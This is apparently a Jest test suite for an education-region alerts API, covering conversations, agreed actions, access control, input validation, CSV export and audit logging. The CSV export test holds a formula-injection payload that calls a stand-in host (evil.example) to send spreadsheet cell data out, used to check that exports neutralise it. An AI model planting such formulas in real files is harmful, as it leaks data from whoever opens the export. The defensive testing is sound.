import { buildPlantedRegion, PlantedRegion } from 'test/alerts/planted-region';
import { createTestContext, TestContext } from 'test/utils/test-context';

interface Entry {
  id: string;
  kind: string;
  text: string;
  status: string | null;
  owner: { role: string; institution: { brin: string } | null; region: string | null } | null;
  dueDate: string | null;
  author: { client: string; role: string; institution: { brin: string } | null; region: string | null };
  statusHistory: Array<{ from: string; to: string; note: string | null; by: { client: string; role: string } }>;
}
interface Conversation {
  id: string;
  href: string;
  subject: string;
  signal: { id: string } | null;
  cell: { kind: string; supplier: { brin: string } | null; receiver: { brin: string } | null; sector: string | null; cohort: number | null; metric: string | null };
  openActions: number;
  entries: Entry[];
}
interface AgendaItem {
  kind: string;
  href: string;
  status: string;
  signal?: { id: string; type: string; triage: { state: string } };
  signalConversation?: { id: string } | null;
  conversation?: { id: string; openActions: Array<{ id: string; text: string; due: boolean; dueDate: string | null; owner: { role: string } | null }> };
}

/**
 * Conversations on a signal or a cell, on the planted region of the alerts tests (region R: A and
 * B supply X and Y; Z is in region S): the trendbreuk on A → X goes into conversation, an action is
 * agreed and done; only A, X and R's coordinators read or write it.
 */
describe('conversations and the agenda', () => {
  let ctx: TestContext;
  let planted: PlantedRegion;
  const tokens: Record<'supplierA' | 'readOnlyA' | 'supplierB' | 'receiverX' | 'receiverY' | 'coordinatorR' | 'coordinatorS', string> = {} as never;
  const clients: Record<string, string> = {};
  let signalId: string;
  let conversation: Conversation;

  const get = (token: string, path: string) => ctx.http.get(path).set('Authorization', `Bearer ${token}`);
  const post = (token: string, path: string, body: unknown) => ctx.http.post(path).set('Authorization', `Bearer ${token}`).send(body as object);
  const put = (token: string, path: string, body: unknown) => ctx.http.put(path).set('Authorization', `Bearer ${token}`).send(body as object);
  const triageOf = async (token: string, id: string): Promise<string> => ((await get(token, `/v1/alerts/${id}`).expect(200)).body as { triage: { state: string } }).triage.state;
  const agenda = async (token: string, query = ''): Promise<AgendaItem[]> => ((await get(token, `/v1/agenda${query}`).expect(200)).body as { items: AgendaItem[] }).items;

  beforeAll(async () => {
    ctx = await createTestContext();
    planted = await buildPlantedRegion(ctx);
    const { region, otherRegion, A, B, X, Y } = planted;
    const token = async (name: keyof typeof tokens, options: Parameters<TestContext['newClient']>[0]): Promise<void> => {
      const client = await ctx.newClient(options);
      clients[name] = client.clientId;
      const response = await ctx.http.post('/v1/auth/token').send({ grant_type: 'client_credentials', client_id: client.clientId, client_secret: client.secret }).expect(200);
      tokens[name] = (response.body as { access_token: string }).access_token;
    };
    await token('supplierA', { institution: A, scopes: ['alerts:read', 'alerts:write'] });
    await token('readOnlyA', { institution: A, scopes: ['alerts:read'] });
    await token('supplierB', { institution: B, scopes: ['alerts:read', 'alerts:write'] });
    await token('receiverX', { institution: X, scopes: ['alerts:read', 'alerts:write'] });
    await token('receiverY', { institution: Y, scopes: ['alerts:read', 'alerts:write'] });
    await token('coordinatorR', { region, scopes: ['alerts:read', 'alerts:write', 'region:admin'] });
    await token('coordinatorS', { region: otherRegion, scopes: ['alerts:read', 'alerts:write', 'region:admin'] });
    await ctx.runJobs();
    const inbox = (await get(tokens.coordinatorR, '/v1/alerts?type=trendbreuk&metric=uitval&limit=500').expect(200)).body as { items: Array<{ id: string; cell: { kind: string; supplier: { brin: string } | null; receiver: { brin: string } | null } }> };
    signalId = inbox.items.find((alert) => alert.cell.kind === 'supplier_receiver' && alert.cell.supplier?.brin === A.brin && alert.cell.receiver?.brin === X.brin)!.id;
  });
  afterAll(() => ctx.close());

  it('goes from the trendbreuk to a conversation, an agreed action and done; each party keeps its own triage', async () => {
    const { A, X, region } = planted;
    const started = await post(tokens.supplierA, '/v1/conversations', { alertId: signalId, note: 'Veel uitval in het eerste blok; wij horen dat de aansluiting wiskunde knelt.' }).expect(201);
    conversation = started.body as Conversation;
    expect(conversation).toMatchObject({ subject: 'signal', signal: { id: signalId }, cell: { kind: 'supplier_receiver', supplier: { brin: A.brin }, receiver: { brin: X.brin }, cohort: 2022, metric: 'uitval' }, openActions: 0 });
    expect(conversation.entries).toEqual([expect.objectContaining({ kind: 'note', status: null, author: expect.objectContaining({ client: clients.supplierA, role: 'supplier', institution: expect.objectContaining({ brin: A.brin }) }) })]);
    // Starting it took the signal into conversation for A only.
    expect(await triageOf(tokens.supplierA, signalId)).toBe('in-conversation');
    expect(await triageOf(tokens.receiverX, signalId)).toBe('new');
    expect(await triageOf(tokens.coordinatorR, signalId)).toBe('new');
    // A second start answers with the conversation the signal has.
    const again = await post(tokens.receiverX, '/v1/conversations', { alertId: signalId }).expect(409);
    expect(again.body).toMatchObject({ conversation: conversation.href });
    expect((await get(tokens.receiverX, `/v1/conversations?alert=${signalId}`).expect(200)).body).toMatchObject({ total: 1, items: [{ id: conversation.id }] });

    // X writes a note: X's triage goes to in-conversation too.
    await post(tokens.receiverX, `${conversation.href}/entries`, { kind: 'note', text: 'Herkenbaar: de toets in week 6 valt slecht.' }).expect(201);
    expect(await triageOf(tokens.receiverX, signalId)).toBe('in-conversation');
    // The coordinator agrees an action for the supplier, due before the next meeting.
    const withAction = (await post(tokens.coordinatorR, `${conversation.href}/entries`, { kind: 'action', text: 'Wiskunde-docenten van A en X stemmen de leerlijn af.', owner: 'supplier', dueDate: '2030-03-01' }).expect(201)).body as Conversation;
    const action = withAction.entries.find((entry) => entry.kind === 'action')!;
    expect(action).toMatchObject({ status: 'open', owner: { role: 'supplier', institution: { brin: A.brin } }, dueDate: '2030-03-01', author: { client: clients.coordinatorR, role: 'coordinator', region: region.code }, statusHistory: [] });
    expect(withAction.openActions).toBe(1);

    const done = (await put(tokens.supplierA, `${conversation.href}/actions/${action.id}/status`, { status: 'done', note: 'Afgestemd in de sectie.' }).expect(200)).body as Conversation;
    expect(done.openActions).toBe(0);
    expect(done.entries.find((entry) => entry.id === action.id)).toMatchObject({
      status: 'done',
      statusHistory: [{ from: 'open', to: 'done', note: 'Afgestemd in de sectie.', by: { client: clients.supplierA, role: 'supplier' } }],
    });
    // The same status again changes nothing and records nothing.
    const same = (await put(tokens.supplierA, `${conversation.href}/actions/${action.id}/status`, { status: 'done' }).expect(200)).body as Conversation;
    expect(same.entries.find((entry) => entry.id === action.id)!.statusHistory).toHaveLength(1);
    // A note has no status.
    await put(tokens.supplierA, `${conversation.href}/actions/${conversation.entries[0].id}/status`, { status: 'done' }).expect(404);
  });

  it('is read and written by the parties of the cell only; everyone else gets the 404 of a missing conversation', async () => {
    const missing = '00000000-0000-4000-8000-000000000000';
    for (const name of ['supplierA', 'readOnlyA', 'receiverX', 'coordinatorR'] as const) await get(tokens[name], conversation.href).expect(200);
    const missingBody = (await get(tokens.supplierB, `/v1/conversations/${missing}`).expect(404)).body as { detail: string };
    for (const name of ['supplierB', 'receiverY', 'coordinatorS'] as const) {
      const response = await get(tokens[name], conversation.href).expect(404);
      expect({ ...response.body, detail: response.body.detail.replace(conversation.id, missing), instance: undefined, requestId: undefined }).toEqual({ ...missingBody, instance: undefined, requestId: undefined });
      await post(tokens[name], `${conversation.href}/entries`, { kind: 'note', text: 'Mag ik meelezen?' }).expect(404);
      await put(tokens[name], `${conversation.href}/actions/${conversation.entries[0].id}/status`, { status: 'done' }).expect(404);
      expect(((await get(tokens[name], '/v1/conversations').expect(200)).body as { items: Conversation[] }).items.map((item) => item.id)).not.toContain(conversation.id);
      // A signal the caller cannot see: the same 404 as a missing one.
      await post(tokens[name], '/v1/conversations', { alertId: signalId }).expect(404);
      expect((await agenda(tokens[name])).map((item) => item.href)).not.toContain(conversation.href);
    }
    // Reading is alerts:read; writing needs alerts:write.
    await post(tokens.readOnlyA, `${conversation.href}/entries`, { kind: 'note', text: 'Gelezen.' }).expect(403);
  });

  it('starts a conversation on a cell whose ends are members of the region, by one of its ends or a coordinator', async () => {
    const { A, B, X, Z, region, otherRegion } = planted;
    const cell = { region: region.code, supplier: A.brin, receiver: X.brin, sector: 'hbo', cohort: 2022, metric: 'uitval' };
    const started = (await post(tokens.receiverX, '/v1/conversations', { cell, title: 'Aansluiting wiskunde' }).expect(201)).body as Conversation;
    expect(started).toMatchObject({ subject: 'cell', signal: null, cell: { kind: 'supplier_receiver', supplier: { brin: A.brin }, receiver: { brin: X.brin }, sector: 'hbo', cohort: 2022, metric: 'uitval' }, entries: [] });
    await get(tokens.supplierA, started.href).expect(200);
    await get(tokens.supplierB, started.href).expect(404);
    // A cell of several topics: a second conversation is fine.
    await post(tokens.coordinatorR, '/v1/conversations', { cell: { region: region.code, supplier: A.brin, receiver: X.brin } }).expect(201);
    // An institution starts conversations on its own cells only.
    await post(tokens.supplierB, '/v1/conversations', { cell }).expect(403);
    // Z is a member of another region.
    const notMember = await post(tokens.coordinatorR, '/v1/conversations', { cell: { region: region.code, supplier: B.brin, receiver: Z.brin } }).expect(400);
    expect(notMember.body.errors).toEqual([expect.objectContaining({ pointer: '#/cell/receiver', code: 'notAMember' })]);
    const unknown = await post(tokens.coordinatorR, '/v1/conversations', { cell: { region: region.code, supplier: '99ZZ', receiver: X.brin } }).expect(400);
    expect(unknown.body.errors).toEqual([expect.objectContaining({ pointer: '#/cell/supplier' })]);
    // Another region answers like a missing one.
    await post(tokens.coordinatorR, '/v1/conversations', { cell: { region: otherRegion.code, supplier: Z.brin, receiver: Z.brin } }).expect(404);
  });

  it('refuses bad input with problem+json pointers and keeps text exactly as sent', async () => {
    const long = 'x'.repeat(4001);
    const cases: Array<[unknown, string]> = [
      [{ kind: 'note', text: long }, '#/text'],
      [{ kind: 'note', text: '   ' }, '#/text'],
      [{ kind: 'note', text: 'nul\u0000byte' }, '#/text'],
      [{ kind: 'note', text: 'bel\u0007' }, '#/text'],
      [{ kind: 'remark', text: 'x' }, '#/kind'],
      [{ kind: 'note', text: 'x', owner: 'supplier' }, '#/owner'],
      [{ kind: 'note', text: 'x', dueDate: '2030-01-01' }, '#/dueDate'],
      [{ kind: 'action', text: 'x', owner: 'everyone' }, '#/owner'],
      [{ kind: 'action', text: 'x', dueDate: '2030-02-30' }, '#/dueDate'],
    ];
    for (const [body, pointer] of cases) {
      const response = await post(tokens.supplierA, `${conversation.href}/entries`, body).expect(400);
      expect(response.headers['content-type']).toMatch(/application\/problem\+json/);
      expect((response.body as { errors: Array<{ pointer: string }> }).errors.map((error) => error.pointer)).toContain(pointer);
    }
    const action = conversation.entries[0];
    const status = await put(tokens.supplierA, `${conversation.href}/actions/${action.id}/status`, { status: 'finished' }).expect(400);
    expect(status.body.errors).toEqual([expect.objectContaining({ pointer: '#/status' })]);
    const title = await post(tokens.supplierA, '/v1/conversations', { cell: { region: planted.region.code, supplier: planted.A.brin, receiver: planted.X.brin }, title: 'twee\nregels' }).expect(400);
    expect(title.body.errors).toEqual([expect.objectContaining({ pointer: '#/title' })]);
    const neither = await post(tokens.supplierA, '/v1/conversations', {}).expect(400);
    expect(neither.body.errors.map((error: { pointer: string }) => error.pointer)).toEqual(['#/alertId', '#/cell']);
    const both = await post(tokens.supplierA, '/v1/conversations', { alertId: signalId, cell: { region: planted.region.code, supplier: planted.A.brin, receiver: planted.X.brin } }).expect(400);
    expect(both.body.errors.map((error: { pointer: string }) => error.pointer)).toEqual(['#/alertId', '#/cell']);
    // 4000 characters with leading spaces and line breaks are kept as they are.
    const text = `  ${'y'.repeat(3992)}\r\n\tz  `;
    expect(text).toHaveLength(4000);
    const kept = (await post(tokens.supplierA, `${conversation.href}/entries`, { kind: 'note', text }).expect(201)).body as Conversation;
    expect(kept.entries.at(-1)!.text).toBe(text);
  });

  it('lists per party the open inbox signals and the conversations with open actions, with actions due by the meeting', async () => {
    const { A, X } = planted;
    const open = (await post(tokens.receiverX, `${conversation.href}/entries`, { kind: 'action', text: 'X deelt de toetsresultaten van blok 1.', owner: 'receiver', dueDate: '2029-11-15' }).expect(201)).body as Conversation;
    const later = (await post(tokens.supplierA, `${conversation.href}/entries`, { kind: 'action', text: 'A bespreekt de LOB-lessen.' }).expect(201)).body as Conversation;
    const actionIds = [...open.entries, ...later.entries].filter((entry) => entry.status === 'open').map((entry) => entry.id);

    for (const name of ['supplierA', 'receiverX', 'coordinatorR'] as const) {
      const items = await agenda(tokens[name], '?dueBy=2029-12-01');
      const signals = items.filter((item) => item.kind === 'signal');
      const inbox = (await get(tokens[name], '/v1/alerts?state=open&triage=unresolved&limit=500').expect(200)).body as { items: Array<{ id: string }> };
      expect(signals.map((item) => item.signal!.id).sort()).toEqual(inbox.items.map((alert) => alert.id).sort());
      expect(signals.every((item) => item.signal!.type !== 'aandacht' && item.signal!.triage.state !== 'resolved')).toBe(true);
      expect(signals.find((item) => item.signal!.id === signalId)).toMatchObject({ signalConversation: { id: conversation.id } });
      // Signals first, then conversations.
      expect(items.findIndex((item) => item.kind === 'conversation')).toBeGreaterThan(items.map((item) => item.kind).lastIndexOf('signal'));
      const item = items.find((candidate) => candidate.kind === 'conversation' && candidate.conversation!.id === conversation.id)!;
      expect(item.conversation!.openActions.map((action) => action.id).sort()).toEqual([...new Set(actionIds)].sort());
      expect(item.conversation!.openActions.map((action) => [action.dueDate, action.due])).toEqual([
        ['2029-11-15', true],
        [null, false],
      ]);
    }
    // B takes part in none of it, and sees its own signals only.
    const ofB = await agenda(tokens.supplierB);
    expect(ofB.filter((item) => item.kind === 'conversation')).toEqual([]);
    expect(ofB.every((item) => item.signal!.id !== signalId)).toBe(true);
    // A resolves the signal: it leaves A's agenda, not X's. Done actions leave the conversation's list.
    await put(tokens.supplierA, `/v1/alerts/${signalId}/triage`, { state: 'resolved', note: 'Besproken; actie loopt.' }).expect(200);
    expect((await agenda(tokens.supplierA)).some((item) => item.signal?.id === signalId)).toBe(false);
    expect((await agenda(tokens.receiverX)).some((item) => item.signal?.id === signalId)).toBe(true);
    for (const id of new Set(actionIds)) await put(tokens.coordinatorR, `${conversation.href}/actions/${id}/status`, { status: 'dropped' }).expect(200);
    expect((await agenda(tokens.receiverX)).some((item) => item.conversation?.id === conversation.id)).toBe(false);
    expect(A.brin).not.toEqual(X.brin);
  });

  it('exports the agenda and a conversation as CSV, with formula-like text neutralised', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"klik")';
    await post(tokens.supplierA, `${conversation.href}/entries`, { kind: 'action', text: formula, owner: 'supplier' }).expect(201);
    const detail = await get(tokens.receiverX, conversation.href).set('Accept', 'text/csv').expect(200);
    expect(detail.headers['content-type']).toMatch(/^text\/csv/);
    const lines = detail.text.trim().split('\n');
    expect(lines[0]).toBe('conversation,region,supplier,receiver,title,date,kind,author,text,status,owner,dueDate,statusChangedAt');
    expect(detail.text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""klik"")"`);
    expect(detail.text).not.toMatch(/(^|,)"?=HYPERLINK/m);

    const agendaCsv = await get(tokens.coordinatorR, '/v1/agenda').set('Accept', 'text/csv').expect(200);
    expect(agendaCsv.headers['content-type']).toMatch(/^text\/csv/);
    expect(agendaCsv.text.split('\n')[0]).toBe('kind,region,title,supplier,receiver,sector,programme,cohort,metric,status,date,href,action,owner,dueDate,due,author');
    expect(agendaCsv.text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""klik"")"`);
    expect(agendaCsv.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // No figures: no rates, counts or p-values in the agenda.
    expect(agendaCsv.text).not.toMatch(/effectPp|nCurrent|baselineRate/);
  });

  it('audits every write with the conversation it touched', async () => {
    const response = await post(tokens.coordinatorR, `${conversation.href}/entries`, { kind: 'note', text: 'Op de agenda van 12 maart.' }).set('X-Request-Id', 'conversation-audit-1').expect(201);
    expect(response.status).toBe(201);
    await ctx.flushAudit();
    const [row] = await ctx.dataSource.query<Array<{ route: string; outcome: string; target: Record<string, unknown> }>>(`SELECT route, outcome, target FROM audit_log WHERE request_id = 'conversation-audit-1'`);
    expect(row).toMatchObject({ route: '/v1/conversations/:id/entries', outcome: 'allowed', target: { resource: 'conversations', id: conversation.id, written: 1 } });
  });
});
